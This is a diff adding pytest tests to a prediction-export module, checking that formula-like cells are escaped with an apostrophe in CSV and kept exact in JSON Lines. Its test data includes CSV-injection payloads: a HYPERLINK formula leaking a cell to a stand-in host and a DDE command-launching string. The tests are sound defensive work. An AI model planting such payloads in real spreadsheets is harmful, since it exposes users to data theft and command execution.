@@ -1,5 +1,8 @@
 """Predictions of any form: as rows, or kept in a file of torch's, one a sample."""
 
+import csv
+import json
+from pathlib import Path
 from typing import Any
 
 import lightning as L
@@ -11,6 +14,7 @@ from datamodules import UserError
 from lit_models import LitMLP
 from lit_models.runs.predictions import (
     batched,
+    cell,
     described,
     in_order,
     nested,
@@ -18,7 +22,9 @@ from lit_models.runs.predictions import (
     rows_of,
     sample_names,
     unbatched,
+    write,
 )
+from lit_models.tasks.targets import Classification
 
 
 @pytest.mark.parametrize(
@@ -117,3 +123,35 @@ def test_types_and_shapes_are_described() -> None:
     tensor = torch.zeros(2, 3)
     assert described({"a": tensor, "b": tensor.long()}) == "a float32 (2, 3), b int64 (2, 3)"
     assert described((tensor, tensor)) == "float32 (2, 3), float32 (2, 3)"
+
+
+FORMULAS = [
+    '=HYPERLINK("http://x.test/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+    " =1+1",
+]
+
+
+def test_a_text_that_is_a_formula_has_an_apostrophe_in_csv_and_is_exact_in_json_lines(tmp_path: Path) -> None:
+    """In the cells of inputs and labels, and in the names of columns."""
+    label = "=1+1"
+    predictions = torch.tensor([[0.25, 0.75]]).repeat(len(FORMULAS), 1)
+    for name in ("predictions.csv", "predictions.jsonl"):
+        write(tmp_path / name, FORMULAS, Classification(2, ["no", label]), predictions)
+    with (tmp_path / "predictions.csv").open(encoding="utf-8", newline="") as file:
+        rows = list(csv.DictReader(file))
+    assert [row["input"] for row in rows] == [f"'{text}" for text in FORMULAS]
+    assert all(row["label"] == f"'{label}" for row in rows)
+    assert [float(row["p(no)"]) for row in rows] == [0.25] * len(FORMULAS)
+    lines = (tmp_path / "predictions.jsonl").read_text(encoding="utf-8").splitlines()
+    assert [json.loads(line)["input"] for line in lines] == FORMULAS
+    assert {json.loads(line)["label"] for line in lines} == {label}
+
+
+@pytest.mark.parametrize("value", [-1.5, -3, "-1.5", "+2e-3", "a = b", "", "one-two", "'=1"])
+def test_numbers_and_plain_texts_are_as_they_are(value: Any) -> None:
+    assert cell(value) == (f"{value:.8g}" if isinstance(value, float) else value)
